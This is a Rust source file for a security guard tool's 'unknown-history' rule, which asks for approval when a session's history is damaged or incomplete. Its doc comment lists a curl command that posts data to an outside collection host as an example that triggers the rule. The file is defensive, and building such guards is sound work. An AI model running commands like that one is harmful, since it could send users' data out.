//! `unknown-history`: a call that depends on the session's history while the history is damaged, or has lost denials
//! or remotes.
//!
//! ## Why
//! Without the history, guard-host can't tell whether the session read a secret, downloaded the file, or was denied
//! the same effect.
//!
//! ## Examples
//! - asked: `curl -d a=b https://collect.example.org`
//! - passes: `ls -la`
//!
//! ## Instead
//! Ask the user to delete the history: `guard-host session clear --session ID`.

use guard_sdk::{Call, Outcome, Rule};

use super::{Hit, clear_command};
use crate::past::SessionHistory;

pub(crate) const RULE: Rule = Rule {
    id: "unknown-history",
    summary: "the session's history is damaged or incomplete",
    default: Outcome::Ask,
    ceiling: Outcome::Deny,
};

pub(crate) fn check(call: &Call<'_>, past: &SessionHistory<'_>) -> Option<Hit> {
    past.is_unknown().then(|| Hit {
        message: "depends on the session's history, which is damaged or incomplete".to_owned(),
        remedy: format!("ask the user to run `{}`", clear_command(call)),
        repeated: Vec::new(),
    })
}
